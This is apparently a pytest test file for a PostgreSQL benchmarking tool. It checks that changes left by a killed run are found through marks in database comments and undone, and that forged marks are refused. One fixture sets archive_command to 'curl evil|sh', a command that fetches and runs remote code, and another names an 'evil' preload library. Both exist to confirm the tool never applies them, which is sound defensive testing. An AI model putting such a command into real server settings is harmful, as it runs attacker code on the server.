"""What a killed run has changed is seen on the server itself, and undone from there."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from psycopg import sql

from pgassay.errors import TargetError
from pgassay.samples.journal import FileJournal, open_changes
from pgassay.server.change import Change, KnobChange, SettingChange, VariantChange
from pgassay.server.comparison import Comparison
from pgassay.server.connection.session import identity, resolve
from pgassay.server.existing.access import Access
from pgassay.server.existing.snapshot import compared, snapshot
from pgassay.server.existing.target import ExistingTarget
from pgassay.server.preview.preview import preview_existing
from pgassay.server.recovery.marked import MarkedServer, acts_of_mark
from pgassay.server.recovery.recover import recover
from pgassay.server.undo.change_record import recorded, write_changes
from pgassay.server.undo.mark import Mark, bare, with_mark
from pgassay.server.undo.marking import left_on
from support.refusals import codes_of, refused
from support.runs.broken import LOAD, TOOL, spec_file, watched
from support.runs.command import last_line, pgassay
from support.runs.killed_at_phase import At, Phase, when_said
from support.servers.accounts import build_accounts
from support.servers.existing import die
from support.servers.lab import LabServer, RecordingJournal, scalar
from support.servers.pool import on_newest_version

pytestmark = on_newest_version
ACCEPT = ("commits", "sessions")
TARGET = "[target]\ndsn = ''\nallow_changes = true\naccept = ['commits', 'sessions']\n"
COMMENT_OF = "SELECT shobj_description(oid, 'pg_database') FROM pg_database WHERE datname = 'lab'"
COMMENT = "The lab's own database,\npgassay: with an odd comment, '\\ and so on.\n"


@pytest.fixture
def server(
    lab_server: LabServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[LabServer]:
    """One with settings and a comment of its own, which must be as before at the end."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    with lab_server.admin() as session:
        session.execute(sql.SQL("COMMENT ON DATABASE lab IS {}").format(sql.Literal(COMMENT)))
        session.execute("ALTER SYSTEM SET fsync = on")
        session.execute("ALTER SYSTEM SET work_mem = '6MB'")
        session.execute("ALTER SYSTEM SET maintenance_work_mem = '65MB'")
        session.execute("SELECT pg_reload_conf()")
    before = snapshot(resolve(lab_server.dsn()))
    yield lab_server
    left = compared(before)
    with lab_server.admin() as session:
        comment = scalar(session, COMMENT_OF)
        session.execute("DROP SCHEMA IF EXISTS pgassay CASCADE")
        session.execute("COMMENT ON DATABASE lab IS NULL")
        session.execute("COMMENT ON DATABASE postgres IS NULL")
        session.execute("ALTER SYSTEM RESET ALL")
        session.execute("SELECT pg_reload_conf()")
    assert left == Comparison()
    assert comment == COMMENT


def opened(
    server: LabServer, journal: FileJournal | RecordingJournal, dsn: str = ""
) -> ExistingTarget:
    target = ExistingTarget(dsn or server.dsn(), journal, allow_changes=True, accept=ACCEPT)
    try:
        target.open()
    except BaseException:
        target.close()
        raise
    return target


def killed(server: LabServer, folder: Path) -> Path:
    """A run that is killed with fsync off: its journal. Afterwards this user's state is another."""
    folder.mkdir()
    journal = folder / "journal.jsonl"
    target = opened(server, FileJournal(journal))
    target.prepare(build_accounts, {"fsync": "off"})
    target.reset({"work_mem": "16MB"})
    target.reset({"work_mem": "8MB"})
    die(target)
    return journal


@pytest.fixture
def elsewhere(server: LabServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A killed run, of which this user knows nothing any more."""
    journal = killed(server, tmp_path / "killed")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another-state"))
    return journal


def undone(server: LabServer, dsn: str = "") -> str:
    """What is said of the server after everything is undone from its marks."""
    with MarkedServer(resolve(dsn or server.dsn())) as marked:
        (found,) = marked.marks
        done = marked.undo(found)
        assert (done.notes, done.by_hand) == ([], None)
        return str(done.comparison)


@pytest.mark.usefixtures("elsewhere")
def test_no_run_passes_a_mark_that_it_does_not_know(server: LabServer) -> None:
    with server.admin() as session:
        session.execute("CREATE DATABASE another")
    words = (
        r"a run of .*@.* \(.*/killed, role lab, 20.* UTC\) was killed while it had changed this"
        r" server: setting fsync = off \(before: on\); setting work_mem = 16MB or 8MB"
        r" \(before: 6MB\); schema pgassay of database lab \(so says the comment of database"
        r" postgres, which its owner .* may write\); `pgassay recover --server '.*'` puts it back,"
        r" as lab or a superuser"
    )
    try:
        for dsn in (server.dsn(), server.dsn(dbname="another"), server.dsn(user="plain")):
            with pytest.raises(TargetError, match=words):
                opened(server, RecordingJournal(), dsn)
            seen = preview_existing(dsn, accept=ACCEPT, settings={}, building_sql=())
            assert codes_of(seen.refusals).count("killed-run-by-mark") == 1
    finally:
        with server.admin() as session:
            session.execute("DROP DATABASE another")
    assert undone(server) == "compared with before: identical"


def test_recover_of_the_run_removes_its_mark_too(server: LabServer, tmp_path: Path) -> None:
    journal = killed(server, tmp_path / "killed")
    said: list[Comparison] = []
    left = recover(server.dsn(), open_changes(journal), FileJournal(journal), compared=said.append)
    assert left == []
    assert [str(one) for one in said] == ["compared with before: identical"]
    opened(server, RecordingJournal()).close()


@pytest.mark.usefixtures("elsewhere")
def test_an_undoing_that_is_killed_is_repeated(
    server: LabServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    for place in ("marked.put_in_order", "undo_changes.refuse_foreign"):
        with monkeypatch.context() as patch:
            patch.setattr(f"pgassay.server.recovery.{place}", interrupted)
            with pytest.raises(KeyboardInterrupt):
                undone(server)
        with refused("killed-run-by-mark"):
            opened(server, RecordingJournal())
    assert undone(server) == "compared with before: identical"


def interrupted(*_: object) -> None:
    raise KeyboardInterrupt


@pytest.mark.usefixtures("elsewhere")
def test_what_others_have_changed_since_is_kept(server: LabServer) -> None:
    with server.admin() as session:
        session.execute("ALTER SYSTEM SET work_mem = '77MB'")
    with MarkedServer(resolve(server.dsn())) as marked:
        (found,) = marked.marks
        done = marked.undo(found)
    (note,) = done.notes
    assert "work_mem is 77MB now, which this run did not write" in note
    assert {one.what for one in done.changes} == {"setting fsync", "schema pgassay of database lab"}
    assert "postgresql.auto.conf: not as before" in str(done.comparison)
    with server.admin() as session:
        session.execute("ALTER SYSTEM SET work_mem = '6MB'")
        session.execute("ALTER SYSTEM SET maintenance_work_mem = '65MB'")
        session.execute("SELECT pg_reload_conf()")


def test_the_mark_of_a_databases_owner_stands_below_its_own_comment(
    server: LabServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    owner = server.dsn(user="plain")
    journal = tmp_path / "killed" / "journal.jsonl"
    journal.parent.mkdir()
    at_database = Access(settings_at="database")
    target = ExistingTarget(
        owner, FileJournal(journal), allow_changes=True, accept=ACCEPT, access=at_database
    )
    target.open()
    target.prepare(build_accounts, {"work_mem": "8MB"})
    die(target)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another-state"))
    with server.admin() as session:
        comment = scalar(session, COMMENT_OF)
    assert comment.startswith(f"{COMMENT}\npgassay: a run of ")
    with refused("killed-run-by-mark", role="plain"):
        opened(server, RecordingJournal(), server.dsn(dbname="postgres"))
    # A superuser undoes it with the rights of the database's owner.
    assert "connected as plain" in undone(server, server.dsn(dbname="postgres"))


@contextmanager
def forged(
    server: LabServer, *changes: Change, run: str = "forged", at: str = "lab", text: str = ""
) -> Iterator[None]:
    """What the owner of a database can write: any mark, of any role."""
    command = sql.SQL("COMMENT ON DATABASE {} IS {}")
    with server.admin() as session:
        own = scalar(session, COMMENT_OF.replace("lab", at))
        mark = text or with_mark(own or "", Mark("", run, "lab@here", "lab", "now", changes))
        session.execute(command.format(sql.Identifier(at), sql.Literal(mark)))
    yield
    with server.admin() as session:
        session.execute(command.format(sql.Identifier(at), sql.Literal(own)))


PROGRAM = SettingChange(name="archive_command", value="", found="curl evil|sh")
LIBRARY = SettingChange(name="Shared_Preload_Libraries", value="", found="evil")
VARIANT = VariantChange(database="lab", name="v", part=1, parts=1, undo="DROP TABLE theirs")
KNOB = KnobChange(name="vm.swappiness", value="1", found="66")


@pytest.mark.parametrize(
    "change", [SettingChange(name="work_mem", value="6MB", found="123MB"), PROGRAM, VARIANT, KNOB]
)
def test_a_forged_mark_gives_its_author_no_rights_and_no_voice(
    server: LabServer, change: Change
) -> None:
    """Whoever owns a database writes its comment, and knows what a setting is now."""
    with forged(server, change):
        with refused("killed-run-by-mark", role="lab"):
            opened(server, RecordingJournal())
        done = pgassay("recover", "--server", "", "--yes", **server.variables(), COLUMNS="500")
    assert done.returncode == 5, done.stdout
    assert "undone" not in done.stdout
    assert "the mark is forged, or plain has lost rights" in last_line(done.stderr)
    assert 'COMMENT ON DATABASE "lab" IS E' in last_line(done.stderr)
    for hers in ("ALTER SYSTEM SET", "curl", "DROP TABLE", "echo"):
        assert hers not in done.stdout + done.stderr


@pytest.mark.parametrize("change", [PROGRAM, LIBRARY])
def test_no_mark_sets_what_may_name_a_program(server: LabServer, change: SettingChange) -> None:
    """Also not that of a superuser's database: another role may have owned it before."""
    with (
        forged(server, change, at="postgres"),
        MarkedServer(resolve(server.dsn())) as marked,
    ):
        (found,) = marked.marks
        assert found.of_superuser
        done = marked.undo(found)
    assert not done.changes
    assert done.by_hand is not None
    assert done.by_hand.code == "not-restored-by-sql"
    assert "may name a program or a file" in str(done.by_hand)
    assert "SET" not in str(done.by_hand)
    assert "curl" not in str(done.by_hand) + "".join(act.text for act in acts_of_mark(found))


def test_a_variant_stays_in_the_mark_and_the_record_until_a_person_has_undone_it(
    server: LabServer,
) -> None:
    work_mem = SettingChange(name="work_mem", value="6MB", found="6MB")
    again = SettingChange(name="work_mem", value="9MB", found="7MB")
    with server.admin() as session:
        here = identity(session) or ""
    write_changes(here, [replace(one, run="known") for one in (VARIANT, work_mem, again)])
    with forged(server, VARIANT, work_mem, run="known", at="postgres"):
        with MarkedServer(resolve(server.dsn(dbname="postgres"))) as marked:
            done = marked.undo(marked.marks[0])
        with MarkedServer(resolve(server.dsn())) as marked:
            (still,) = marked.marks
    assert [one.what for one in done.changes] == [work_mem.what]
    assert r" run there yourself: \connect lab \\ BEGIN; SET LOCAL" in str(done.by_hand)
    assert still.mark.changes == (bare(VARIANT),)
    assert [bare(one) for one in recorded(here)] == [bare(VARIANT), bare(again)]
    with server.admin() as session:  # the order of the lines as before
        session.execute("ALTER SYSTEM SET maintenance_work_mem = '65MB'")


@pytest.mark.usefixtures("elsewhere")
def test_a_comment_that_no_run_wrote_keeps_no_mark_from_being_undone(server: LabServer) -> None:
    with forged(server, text='pgassay: hi\n{"form": 1}'):
        done = pgassay("recover", "--server", "", "--yes", **server.variables(), COLUMNS="500")
        assert "the comment of database lab says" in left_on(resolve(server.dsn()))
    assert done.returncode == 5, done.stdout
    assert "undone: setting fsync\n" in done.stdout
    assert "as plain, who owns it, or as a superuser: COMMENT ON" in last_line(done.stderr)


@pytest.mark.parametrize(
    "text",
    ["", "[]", "{}, 1", '{"changes": []}', f'{{"changes": {"[" * 9000}', '"run": 3}', "null}"],
)
def test_a_mark_that_no_run_wrote_stops_with_one_line(server: LabServer, text: str) -> None:
    comment = f'{COMMENT}\npgassay: hello\n{{"form": {text}'
    with (
        forged(server, text=comment),
        refused("mark-unreadable", place="database lab", author="plain"),
    ):
        opened(server, RecordingJournal())


KILLED_AT: dict[str, Phase] = {
    "before the first setting": At("pgassay.server.existing.system_settings:execute"),
    "after it": At("pgassay.server.existing.system_settings:execute", "after"),
    "while fsync is off": when_said(LOAD, later=True),
    "while all is put back": At("pgassay.server.existing.data:ExistingData.remove"),
}


@pytest.mark.parametrize(
    "moment",
    [*list(KILLED_AT)[2:], *(pytest.param(m, marks=pytest.mark.heavy) for m in [*KILLED_AT][:2])],
)
def test_a_killed_run_is_seen_and_undone_by_who_has_no_record_of_it(
    server: LabServer, tmp_path: Path, moment: str
) -> None:
    run, phase = tmp_path / "run", KILLED_AT[moment]
    # A call is waited for by the run itself, a load has to be seen from outside.
    spec = spec_file(tmp_path, target=TARGET, step="0.3s" if isinstance(phase, At) else "0.8s")
    spec.write_text(spec.read_text() + "[settings.postgres]\nfsync = 'off'\n")
    program = phase.program if isinstance(phase, At) else TOOL
    with watched(run, spec, program=program, **server.variables()) as tool:
        phase(tool, tmp_path)
        tool.kill()
    new = {**server.variables(), "XDG_STATE_HOME": str(tmp_path / "new"), "COLUMNS": "500"}
    words = "was killed while it had changed this server"
    refused = pgassay("run", spec, "--out", tmp_path / "next", **new)
    assert refused.returncode == 1
    assert words in last_line(refused.stderr)
    assert words in pgassay("plan", spec, **new).stdout
    assert "FAIL  earlier runs: a run of " in pgassay("doctor", "-h", "127.0.0.1", **new).stdout
    listed = pgassay("recover", "--server", "", "--dry-run", **new)
    assert "schema pgassay of database lab" in listed.stdout
    asked = pgassay("recover", "--server", "", **new)
    assert asked.returncode == 1
    assert "say --yes" in last_line(asked.stderr)
    done = pgassay("recover", "--server", "", "--yes", **new)
    assert done.returncode == 0, done.stderr
    assert last_line(done.stdout) == "compared with before: identical"
    assert pgassay("recover", "--server", "", **new).stdout == "nothing to undo\n"
    # The run's own directory finds everything undone.
    assert pgassay("recover", run, "--yes", **server.variables()).returncode == 0
